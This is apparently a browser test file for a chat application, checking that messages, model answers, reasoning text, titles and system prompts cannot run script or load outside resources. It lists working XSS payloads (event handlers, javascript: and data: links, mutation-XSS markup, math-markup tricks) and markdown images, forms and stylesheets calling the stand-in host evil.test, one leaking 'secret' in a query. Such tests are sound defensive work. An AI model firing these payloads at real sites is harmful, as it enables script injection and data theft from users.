"""R19: nothing that people or models write runs in the page or makes a request leave it."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Enter
from tests.browser.window import Window

PAYLOADS = [
    "<script>window.owned = 1</script>",
    "<img src=x onerror='window.owned=1'>",
    "![a picture](http://evil.test/pixel.png?q=secret)",
    "[click](javascript:window.owned=1)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<svg onload='window.owned=1'><a xlink:href='javascript:window.owned=1'>x</a></svg>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1></style></mglyph>"
    "</table></mtext></math>",
    "<details open ontoggle=window.owned=1>x</details>",
    "<form action='http://evil.test/'><input name=q autofocus onfocus=window.owned=1></form>",
    "```html\n<img src=x onerror=window.owned=1>\n```",
    '```"><img src=x onerror=window.owned=1>\nx\n```',
    r"$\href{javascript:window.owned=1}{x}$ $\includegraphics{http://evil.test/a.png}$",
    r"$\htmlData{x=1}{y}$ $\html{<img src=x onerror=window.owned=1>}$",
    "<style>body{background:url(http://evil.test/b.png)}</style>",
    "<link rel=stylesheet href=http://evil.test/c.css><base href=http://evil.test/>",
    "<div hx-get='http://evil.test/' hx-trigger='load' data-hx-get='/logout'>x</div>",
    "<button data-action='delete' data-copy-text='x' id='send'>x</button>",
    "</textarea></pre></template><script>window.owned=1</script>",
    "'\"--></title><script>window.owned=1</script>",
]
# What no text may bring into the page; our own elements have none of it either.
SUSPECT = """
() => [...document.querySelectorAll("#thread *, #conversations *, #panel *, #heading")].flatMap(
  (element) => [...element.attributes]
    .filter((a) => /^(on.*|style)$/i.test(a.name) || /^\\s*(javascript|data):/i.test(a.value))
    .map((a) => `${element.localName} ${a.name}=${a.value.slice(0, 60)}`)
    .concat(/^(script|iframe|img|object|embed|link|base|style)$/.test(element.localName)
      ? [element.localName] : []))
  .filter((found) => !/^(input|textarea) style=/.test(found))
"""


def check(window: Window) -> None:
    expect(window.live).to_have_count(0)
    assert window.page.evaluate("window.owned") is None
    assert window.page.evaluate(SUSPECT) == []
    prose = window.thread.locator(
        ".prose :is([hx-get], [data-hx-get], [data-action='delete'], #send)"
    )
    expect(prose).to_have_count(0)


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), 5))
def test_r19_it_works(enter: Enter, start: int) -> None:
    """Each payload as a message and as what a model says, while it streams and after a reload."""
    window = enter()
    for payload in PAYLOADS[start : start + 5]:
        window.say(payload)
        window.wait_done()
        check(window)
        assert window.shown()[-2:] == [payload, payload]
    window.page.wait_for_timeout(1200)
    window.page.reload()
    expect(window.answers.last.locator(".answer .prose")).to_be_visible()
    check(window)


def test_r19_reasoning_titles_and_system_prompts(enter: Enter) -> None:
    window = enter()
    payload = " ".join(PAYLOADS[:3])
    window.page.locator("#p-system").evaluate("(area, text) => (area.value = text)", payload)
    window.say(f"<think>{payload}</think>{payload}")
    window.wait_done()
    window.answers.last.locator(".thought summary").click()
    check(window)
    item = window.in_sidebar()
    item.hover()
    item.locator("summary").click()
    item.locator('[data-action="rename"]').click()
    window.page.locator(".rename__input").fill(payload[:200])
    window.page.locator(".rename__input").press("Enter")
    expect(item.locator(".conversation__title")).to_have_text(payload[:200])
    window.page.locator("#search").fill("secret")
    expect(window.page.locator(".found").first).to_be_visible()
    check(window)
    window.page.reload()
    expect(window.page.locator("#p-system")).to_have_value(payload)
    check(window)


def test_r19_an_image_of_a_models_is_a_link(enter: Enter) -> None:
    window = enter()
    window.say("![a cat](http://evil.test/cat.png)")
    window.wait_done()
    link = window.answers.last.locator("a.image-link")
    expect(link).to_have_attribute("href", "http://evil.test/cat.png")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_text("a cat")
